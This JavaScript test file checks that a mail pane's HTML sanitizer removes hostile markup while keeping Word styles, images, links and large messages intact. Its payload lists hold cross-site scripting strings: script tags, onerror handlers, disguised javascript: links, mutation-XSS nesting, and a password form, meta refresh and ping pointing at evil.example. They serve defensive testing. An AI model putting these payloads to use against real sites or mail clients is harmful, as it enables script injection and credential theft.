// DOMPurify needs a browser's own parser: these run in Chromium.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { noChromium, openPage } from './support/chromium.mjs';

const skip = noChromium;

// As strict as the pane's own, but for the tests' own parsing.
const CSP = "default-src 'none'; script-src 'self'; style-src 'self'";

let page;
let driver;

before(async () => {
  if (skip) return;
  const entry = 'tests/shell/page/sanitize.js';
  page = await openPage({ entry, csp: CSP, ready: 'window.sanitize' });
  driver = page.driver;
});
after(() => page?.close());

const sanitize = (html) => driver.executeScript('return sanitize(arguments[0])', html);

/** The same for a mail without malice, of which the policy has nothing to report. */
async function sanitizeQuietly(html) {
  await driver.executeScript('violations.splice(0)');
  const clean = await sanitize(html);
  await driver.executeAsyncScript('setTimeout(arguments[0])');
  assert.deepEqual(await driver.executeScript('return violations'), []);
  return clean;
}

const hostile = {
  'a script': '<script>alert(1)</script>',
  'an event handler': '<img src=x onerror=alert(1)>',
  'a script in a link': '<a href="javascript:alert(1)">x</a>',
  'a script in a link, disguised': '<a href=" jav&#x09;ascript:alert(1)">x</a>',
  'a page in a frame': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'a drawing with a script':
    '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
  'a formula that hides a script':
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  'a plug-in': '<object data="x.swf"></object><embed src="x.swf">',
  'a page that replaces this one':
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  'a base for all links': '<base href="https://evil.example/">',
  'a form':
    '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
  'a button that acts alone': '<button formaction="javascript:alert(1)">x</button>',
  'a link that reports': '<a href="https://x.example" ping="https://evil.example">x</a>',
};

/** What a browser finds in the result that could act. */
const threats = (html) =>
  driver.executeScript(
    `const elements = 'script iframe object embed meta base link form input button svg math'.split(' ');
     const parsed = new DOMParser().parseFromString(arguments[0], 'text/html');
     return [...parsed.querySelectorAll('*')].flatMap((element) => [
       ...elements.filter((name) => element.localName === name),
       ...[...element.attributes]
         .filter(({ name, value }) => /^on|^(action|formaction|ping|srcdoc)$/.test(name) || /^javascript:/i.test(value.replace(/\\s/g, '')))
         .map(({ name }) => name),
     ]);`,
    html,
  );

for (const [name, html] of Object.entries(hostile)) {
  test(`${name} is taken out`, { skip }, async () => {
    assert.notDeepEqual(await threats(html), [], 'the browser would act on it');
    const clean = await sanitize(`<p>Hi</p>${html}`);
    assert.match(clean, /<p>Hi<\/p>/);
    assert.deepEqual(await threats(clean), [], clean);
  });
}

test('what the mail looks like stays', { skip }, async () => {
  const style = '<style>p.MsoNormal { margin: 0 }</style>';
  const mail =
    '<p class="MsoNormal" style="color: rgb(31, 73, 125);">Hi <b>Dana</b>,</p>' +
    '<table border="1"><tbody><tr><td colspan="2">12 sensors</td></tr></tbody></table>' +
    '<p><a href="https://harbormills.example/order?id=1&amp;x=2">Order</a> <a href="mailto:ann@x.example">Ann</a></p>';
  const clean = await sanitizeQuietly(`<html><head>${style}</head><body>${mail}</body></html>`);
  for (const part of [
    'p.MsoNormal { margin: 0 }',
    '<p class="MsoNormal" style="color: rgb(31, 73, 125);">Hi <b>Dana</b>,</p>',
    '<td colspan="2">12 sensors</td>',
    'href="https://harbormills.example/order?id=1&amp;x=2"',
    'href="mailto:ann@x.example"',
  ]) {
    assert.ok(clean.includes(part), `${part}\n${clean}`);
  }
});

test('pictures in the mail and in its attachments stay', { skip }, async () => {
  const clean = await sanitizeQuietly(
    '<img src="cid:image001.png@01DB"><img src="data:image/png;base64,iVBORw0KGgo="><img src="https://x.example/a.png">',
  );
  assert.equal((clean.match(/<img src="(cid|data|https):/g) ?? []).length, 3, clean);
});

test('a large and deep mail is not lost', { skip }, async () => {
  const deep = `${'<div>'.repeat(200)}deep${'</div>'.repeat(200)}`;
  const clean = await sanitizeQuietly(deep + '<p>row</p>'.repeat(20_000));
  assert.match(clean, /deep/);
  assert.equal(clean.match(/<p>row<\/p>/g).length, 20_000);
});

test('the styles of Word, which stand in comments, stay', { skip }, async () => {
  const clean = await sanitizeQuietly(
    '<html><head><style><!-- p.MsoNormal { margin: 0 } --></style></head><body><p>Hi</p></body></html>',
  );
  assert.match(clean, /<style>\s*p\.MsoNormal \{ margin: 0 \}\s*<\/style>/);
});

test('words that look like styles come out as they went in', { skip }, async () => {
  const mail =
    '<p title="a style=b">House STYLE = bold, <b data-style="1">&lt;style type=x&gt;</b> style =</p>';
  const clean = await sanitizeQuietly(mail);
  assert.ok(clean.includes(mail), clean);
});

test('a style cannot smuggle anything in', { skip }, async () => {
  const tricks = [
    '<style><img src=x onerror=alert(1)></style>',
    '<style title="</style><img src=x onerror=alert(1)>">x</style>',
    "<p title='<style>'><img src=x onerror=alert(1)></p>",
    '<p title=<style><img src=x onerror=alert(1)>',
    '<style/onload=alert(1)>p{}</style>',
    '<p/style=x/onclick=alert(1)>x</p>',
    '<noscript><style></noscript><img src=x onerror=alert(1)></style>',
  ];
  for (const html of tricks) {
    const clean = await sanitize(html);
    assert.deepEqual(await threats(clean), [], `${html}\n${clean}`);
  }
});
